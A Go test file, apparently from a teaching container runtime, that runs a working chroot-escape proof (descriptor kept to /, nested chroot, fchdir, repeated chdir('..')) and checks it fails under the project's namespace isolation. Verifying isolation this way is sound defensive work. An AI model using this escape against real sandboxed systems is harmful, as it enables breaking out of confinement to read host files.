package main

import (
	"fmt"
	"os"
	"os/exec"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"

	"mydocker.example/shared/proof"
)

// chrootEscape: the classic way out of a chroot. It needs root inside, and nothing from
// outside. Both halves have a mount namespace; only the way into the root differs.
var chrootEscape = proof.Proof{
	ID: "chroot-escape",
	Attack: &proof.Attack{
		Prepare: prepareJail,
		Run:     breakOut,
		Without: chrootOnly,
		With:    ownMountsAndPIDs,
		Inside:  func(a *proof.Attacker) error { return enter(a.Get("root")) },
		Errno:   unix.ENOENT,
	},
}

// breakOut is the attack program. A process has one root. While its working directory is
// below that root, ".." stops there. So: put the root elsewhere, lower, and step out.
func breakOut(a *proof.Attacker) error {
	kept, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open(%q): %w", "/", err)
	}
	defer unix.Close(kept)
	if err := os.MkdirAll("/x", 0o755); err != nil {
		return err
	}
	if err := chroot("/x"); err != nil {
		return err
	}
	a.Saw(`chroot("/x"), with a descriptor kept of /`, "ok")
	if err := unix.Fchdir(kept); err != nil {
		return fmt.Errorf("fchdir(%d): %w", kept, err)
	}
	a.Saw(fmt.Sprintf("fchdir(%d): now above our root", kept), "ok")

	// No ".." meets the root any more; the last ones stand still at the top of the tree.
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir(%q): %w", "..", err)
		}
	}
	if err := chroot("."); err != nil {
		return err
	}
	names, err := list("/")
	if err != nil {
		return err
	}
	a.Saw(`chdir("..") as far as it goes, chroot("."), ls /`, names)

	text, err := os.ReadFile(a.Get("diary"))
	a.Saw("cat "+a.Get("diary"), orText(err, string(text)))
	return err
}

// prepareJail also puts this program into the jail: execve(2) will look for it there.
func prepareJail(r *proof.Report) (cleanup func(), err error) {
	cleanup, err = prepareHost(r)
	if err != nil {
		return nil, err
	}
	return cleanup, copyFile("/proc/self/exe", preparedRoot+"/attack")
}

// chrootOnly is set in the parent: the child calls chroot(2) and chdir(2), then execve(2).
func chrootOnly(cmd *exec.Cmd) error {
	cmd.Path, cmd.Dir = "/attack", "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags: unix.CLONE_NEWNS | unix.CLONE_NEWPID,
		Chroot:     preparedRoot,
	}
	return nil
}

// list is ls(1).
func list(dir string) (string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return "", err
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return strings.Join(names, " "), nil
}
